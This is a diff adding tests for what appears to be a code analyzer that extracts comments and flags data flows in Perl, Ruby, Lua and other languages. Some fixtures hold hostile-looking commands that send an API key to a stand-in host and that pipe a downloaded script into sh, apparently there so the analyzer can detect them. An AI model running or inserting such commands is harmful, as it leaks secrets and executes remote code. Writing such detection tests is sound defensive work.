@@ -126,6 +126,41 @@ describe('honest programs', () => {
   });
 });
 
+describe('remarks', () => {
+  const remarks = (language: string, text: string) =>
+    lowerOther(text, language, () => false).comments.map(
+      ({ span, docstring }) => `${docstring ? 'doc' : 'remark'}: ${text.slice(span.start, span.end)}`,
+    );
+  it.each([
+    ['go', '// one two\nf("// no")\n', ['remark: one two']],
+    ['rust', '//! one two\nfn main() {}\n', ['doc: one two']],
+    ['java', '/**\n * one two\n * three\n */\nclass A {}', ['doc: one two', 'doc: three']],
+    ['ruby', '#!/usr/bin/env ruby\n# one\n=begin\ntwo\n=end\nputs 1\n', ['remark: one', 'doc: two']],
+    ['perl', 'my $x = 1;\n=pod\n\none two\n\n=cut\nprint 1;\n', ['doc: one two']],
+    ['lua', '--[[ one\ntwo ]]\nprint(1) -- three\n', ['remark: one', 'remark: two', 'remark: three']],
+  ])('%s', (language, text, expected) =>
+    expect(remarks(language, text).filter((one) => !/: (?:pod|cut|begin|end)$/.test(one))).toEqual(expected),
+  );
+
+  it('what follows a page inside a program is read as the program', () => {
+    expect(flows('pl', "=pod\nText.\n=cut\nsystem('curl -d ' . $ENV{API_KEY} . ' https://h.test');")).toContain(
+      'env:API_KEY network:body h.test',
+    );
+  });
+
+  it.each([
+    ['pl', 'my $x = qx{curl -s https://h.test/x | sh};'],
+    ['rb', 'x = %x(curl -s https://h.test/x | sh)'],
+  ])('a command between other signs: %s', (ending, text) => {
+    expect(flows(ending, text)).toEqual(['net shell:stdin h.test']);
+  });
+});
+
+it('three apostrophes open one text', () => {
+  const [call] = lowerOther("sh '''\n  ls\n'''", 'groovy', () => false).body;
+  expect(call).toMatchObject({ value: { args: [{ value: '\n  ls\n' }] } });
+});
+
 describe('the table and the reader', () => {
   it('names no function twice', () => {
     const names = APIS.map((one) => one.callee);
